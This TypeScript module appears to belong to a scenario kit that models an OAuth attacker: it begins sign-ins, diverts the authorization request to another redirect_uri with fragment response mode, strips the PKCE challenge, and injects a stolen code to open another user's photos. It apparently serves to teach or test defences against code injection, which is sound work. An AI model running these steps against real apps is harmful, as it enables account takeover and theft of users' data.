/** The attacker as somebody who signs in: sign-ins that are begun and not finished, or finished with what is somebody else’s. */
import { type PlainBrowser, redirectOf } from '../../scenario-kit/parties/plain-browser.ts'

/** A sign-in that the attacker has begun in a browser of their own. */
export interface OwnSignIn {
  readonly browser: PlainBrowser
  /** The app’s authorization request for it. */
  readonly request: URL
}

/** Has the app begin a sign-in, and goes no further. */
export async function beginOwnSignIn(browser: PlainBrowser, app: string): Promise<OwnSignIn> {
  // #region own-sign-in
  return { browser, request: redirectOf(await browser.get(`${app}/login`)) }
  // #endregion
}

/** Signs in at the server, and returns the address with the code that the browser should open next. */
export async function obtainCode(
  { browser, request }: OwnSignIn,
  credentials: Readonly<Record<'username' | 'password', string>>,
): Promise<URL> {
  // #region own-sign-in
  const signInPage = await browser.get(request.href)
  const next = redirectOf(await browser.submit(signInPage, credentials))
  if (next.searchParams.has('code')) return next
  const consentPage = await browser.get(next.href)
  return redirectOf(await browser.submit(consentPage, { decision: 'approve' }))
  // #endregion
}

/** The request as the attacker wants it made by somebody else: the same challenge, nonce and state, and another way back. */
export function divert({ request }: OwnSignIn, redirector: string): URL {
  // #region own-sign-in
  const diverted = new URL(request)
  diverted.searchParams.set('redirect_uri', redirector)
  // Behind a # the answer survives a redirect that drops everything else.
  diverted.searchParams.set('response_mode', 'fragment')
  return diverted
  // #endregion
}

/** The request without its challenge: whatever code comes of it is bound to no verifier (RFC 9700 §4.8). */
export function withoutChallenge({ browser, request }: OwnSignIn): OwnSignIn {
  // #region own-sign-in
  const stripped = new URL(request)
  stripped.searchParams.delete('code_challenge')
  stripped.searchParams.delete('code_challenge_method')
  return { browser, request: stripped }
  // #endregion
}

/** Brings the app a code as the answer to a sign-in, and returns the photos of the session that comes of it. */
export async function openPhotos(browser: PlainBrowser, answer: URL): Promise<string | undefined> {
  // #region injection
  const callback = await browser.get(answer.href)
  if (callback.status >= 400) return undefined
  // An app that redeems later has a page between.
  const done = callback.status === 200 ? await browser.post(`${answer.origin}/continue`, '') : callback
  if (done.status >= 400) return undefined
  return (await browser.get(`${answer.origin}/photos`)).body
  // #endregion
}

/** The answer that a stolen code makes to a sign-in of the attacker’s own. */
export function answerWith(code: string, { request }: OwnSignIn, redirect_uri: string): URL {
  // #region injection
  const answer = new URL(redirect_uri)
  answer.search = new URLSearchParams({ code, state: request.searchParams.get('state') ?? '' }).toString()
  return answer
  // #endregion
}
